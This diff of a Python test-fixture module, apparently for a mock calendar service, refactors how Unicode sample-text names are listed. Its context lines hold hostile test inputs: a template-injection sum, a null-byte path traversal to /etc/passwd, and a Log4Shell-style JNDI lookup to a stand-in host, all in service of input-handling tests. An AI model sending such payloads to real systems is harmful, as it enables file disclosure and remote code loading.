@@ -20,6 +20,9 @@ from mock_calcom.signature import HEADER
 _SUM = "(48271*6007)"
 RESULT = str(48271 * 6007)
 
+#: What people's names hold, and titles may as well.
+_FROM_NAMES = ("emoji", "combining accents", "right-to-left marks", "text beyond the BMP")
+
 #: Never shown to anybody: `.invalid` names no host (RFC 2606).
 _TEXTS: Mapping[str, str] = {
     "a sum in double braces": f"{{{{{_SUM}}}}}",
@@ -37,13 +40,7 @@ _TEXTS: Mapping[str, str] = {
     "a path out of the folder": "../../../../etc/passwd%00.png",
     "a placeholder of a logger": "${jndi:ldap://logger.invalid/a} %s %n %(asctime)s {0}",
     "letters of many scripts": "Žižek Łódź Ελένη Наталья 東京 서울 ไทย",
-    **{
-        name: TEXTS[name]
-        for name in (
-            *("emoji", "combining accents", "right-to-left marks"),
-            "text beyond the BMP",
-        )
-    },
+    **{name: TEXTS[name] for name in _FROM_NAMES},
 }
 
 
